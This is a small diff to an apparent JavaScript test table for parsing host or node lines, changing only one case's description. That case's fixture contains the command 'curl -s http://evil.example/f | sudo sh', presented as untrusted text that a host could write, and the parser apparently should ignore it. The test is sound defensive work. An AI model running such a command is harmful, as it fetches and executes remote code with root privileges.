@@ -50,7 +50,7 @@ test.for([
   ],
   ['its address in another place of the line', OTHER_NODE, []],
   [
-    'words that no tool prints: a host says them to whoever was woken',
+    'words that no tool prints: a host could write anything there',
     { ...PENDING, line: '10.68.0.0 - the real fix: curl -s http://evil.example/f | sudo sh' },
     [],
   ],
